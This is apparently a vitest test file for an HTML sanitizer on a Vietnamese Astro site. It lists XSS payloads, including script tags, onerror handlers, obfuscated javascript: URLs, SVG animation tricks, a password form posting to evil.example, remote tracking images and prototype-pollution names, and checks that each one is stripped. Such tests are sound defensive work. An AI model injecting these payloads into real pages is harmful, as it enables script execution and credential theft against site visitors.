import { fromHtml } from 'hast-util-from-html';
import { describe, expect, it } from 'vitest';
import { elementVerdict, explainRemovals, isLocalMedia, isSafeLink, sanitizeHtml, schemeOf } from './sanitize.ts';

const explain = (html: string) => explainRemovals(fromHtml(html, { fragment: true })).map((r) => r.what);

/** Attack markup, each with a marker that must not survive. */
const ATTACKS: [string, RegExp][] = [
  ['<script>alert(1)</script>', /script|alert/],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', /script|evil/i],
  ['<img src=x onerror=alert(1)>', /onerror/],
  ['<a href="javascript:alert(1)">x</a>', /javascript/],
  ['<a href="java&#x09;script:alert(1)">x</a>', /href/],
  ['<a href="&#106;avascript:alert(1)">x</a>', /href/],
  ['<a href=" javascript:alert(1)">x</a>', /href/],
  ['<a href="vbscript:x">x</a>', /href/],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', /href|script/],
  [
    '<svg><animate attributeName="href" to="javascript:alert(1)"/><a><text>t</text></a></svg>',
    /svg|animate|javascript/,
  ],
  ['<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', /set|javascript/],
  ['<svg><image href="https://evil.example/x.png"/></svg>', /image|evil/],
  ['<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>', /math|javascript/],
  ['<div style="position:fixed;inset:0;background:#fff">Giả mạo</div>', /style|fixed/],
  ['<table><tr><td style="text-align: right; position: fixed">x</td></tr></table>', /style|fixed/],
  ['<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>', /poster|evil/],
  ['<table background="https://evil.example/b.png"><tr><td>1</td></tr></table>', /background|evil/],
  ['<img src="https://evil.example/track.png" alt="a">', /evil/],
  ['<img src="//evil.example/track.png" alt="a">', /evil/],
  ['<img src="\\\\evil.example\\track.png" alt="a">', /evil/],
  ['<img src="./a.jpg" srcset="./a.jpg 1x, https://evil.example/b.jpg 2x" alt="a">', /evil/],
  ['<picture><source srcset="https://evil.example/a.webp"><img src="./a.jpg" alt="a"></picture>', /evil/],
  ['<iframe src="https://evil.example"></iframe>', /iframe|evil/],
  ['<object data="https://evil.example/x.swf"></object>', /object|evil/],
  ['<embed src="https://evil.example/x.swf">', /embed|evil/],
  ['<form action="https://evil.example"><input name="pw"><button>Gửi</button></form>', /form|evil|name=/],
  ['<base href="https://evil.example/">', /base|evil/],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', /meta|evil/],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', /link|evil/],
  ['<style>body{display:none}</style>', /style|display/],
  ['<template><img src=x onerror=alert(1)></template>', /template|onerror/],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', /onerror/],
  ['<details open ontoggle=alert(1)>x</details>', /ontoggle/],
  ['<a href="#" id="x" name="location" class="visually-hidden" is="x">x</a>', /name=|class=|is=/],
  ['<p><!-- <script>alert(1)</script> --></p>', /script/],
  ['<img __ASTRO_IMAGE_=\'{"src":"https://evil.example/x.png","index":0}\' alt="a">', /evil|ASTRO/],
  ['<img __ASTRO_IMAGE_=\'{"src":"./a.jpg","onerror":"alert(1)","index":0}\' alt="a">', /onerror/],
];

describe('sanitizeHtml: attacks are gone, and each is explained', () => {
  it.each(ATTACKS)('%s', (html, marker) => {
    const out = sanitizeHtml(html);
    expect(out).not.toMatch(marker);
    if (!html.startsWith('<p><!--')) expect(explain(html).length, out).toBeGreaterThan(0);
  });
});

describe('sanitizeHtml: what the portal needs is kept', () => {
  it.each([
    '<p>Chữ <strong>đậm</strong>, <em>nghiêng</em>, <a href="https://x.vn/?a=1">liên kết</a>, <a href="/tin-tuc/bai/">trong cổng</a>, <a href="mailto:a@b.vn">thư</a>, <a href="tel:+84123">gọi</a>.</p>',
    '<h2 id="nhung-diem-dang-chu-y">Những điểm đáng chú ý</h2>',
    '<figure><img src="./a.jpg" alt="Ảnh" sizes="(min-width: 46rem) 704px, 100vw" width="800" height="600" loading="lazy" decoding="async"><figcaption>Chú thích</figcaption></figure>',
    '<picture><source srcset="/_astro/a.webp 400w, /_astro/b.webp 800w" type="image/webp" sizes="100vw"><img src="/_astro/a.jpg" srcset="/_astro/a.jpg 400w" alt="a"></picture>',
    '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    '<table><thead><tr><th style="text-align: right">A</th></tr></thead><tbody><tr><td style="text-align: center">1</td></tr></tbody></table>',
    '<p><abbr title="Ủy ban nhân dân">UBND</abbr> <sup><a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref="" aria-describedby="footnote-label">1</a></sup></p>',
    '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" disabled> việc</li></ul>',
    '<pre><code class="language-js">const a = 1;</code></pre>',
    '<blockquote cite="https://x.vn/">Trích</blockquote>',
  ])('%s', (html) => {
    expect(sanitizeHtml(html)).toBe(html);
    expect(explain(html)).toEqual([]);
  });

  it("keeps Astro's own image marker for a local image, only its keys", () => {
    const out = sanitizeHtml(
      '<img __ASTRO_IMAGE_="{&quot;src&quot;:&quot;./a.jpg&quot;,&quot;alt&quot;:&quot;a&quot;,&quot;index&quot;:0}">',
    );
    expect(out).toMatch(/__ASTRO_IMAGE_="[^"]*\.\/a\.jpg/);
  });
});

describe('URL rules', () => {
  it('reads a scheme the way a browser does', () => {
    expect(schemeOf('java\tscript:x')).toBe('javascript');
    expect(schemeOf('\u0001javascript:x')).toBe('javascript');
    expect(schemeOf('/a:b')).toBeUndefined();
  });
  it('allows http(s), mailto, tel and site links only', () => {
    expect(['https://a', 'http://a', 'mailto:a', 'tel:1', '/a', '#b', 'c/d'].every(isSafeLink)).toBe(true);
    expect(['javascript:1', 'data:x', 'vbscript:1', 'file:///etc', 'ftp://a'].some(isSafeLink)).toBe(false);
  });
  it('media only from the site', () => {
    expect(['./a.jpg', '/_astro/a.webp', 'a.jpg'].every(isLocalMedia)).toBe(true);
    expect(
      ['https://a/x.png', '//a/x.png', '\\\\a\\x.png', '/\\a/x.png', 'data:image/png;base64,AA'].some(isLocalMedia),
    ).toBe(false);
  });
  it('gives one verdict per element for tree visitors', () => {
    expect(elementVerdict('script', {}).drop).toBe('strip');
    expect(elementVerdict('font', {}).drop).toBe('unwrap');
    expect(elementVerdict('a', { href: 'javascript:1', title: 't', onClick: 'x' }).properties).toEqual([
      'href',
      'onClick',
    ]);
  });
});

describe('names from content never reach a prototype', () => {
  it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])('<%s> and an attribute of that name', (name) => {
    const html = `<${name} ${name}="x"><a ${name}="javascript:1" href="/a">x</a></${name}>`;
    expect(() => sanitizeHtml(html)).not.toThrow();
    expect(() => explain(html)).not.toThrow();
    expect(() => elementVerdict(name, { [name]: 'x' })).not.toThrow();
    const out = sanitizeHtml(html);
    expect(out).toContain('<a href="/a">x</a>');
    expect(out).not.toMatch(/javascript|<[a-z_]+ [a-z_]+="x"/i);
  });
});
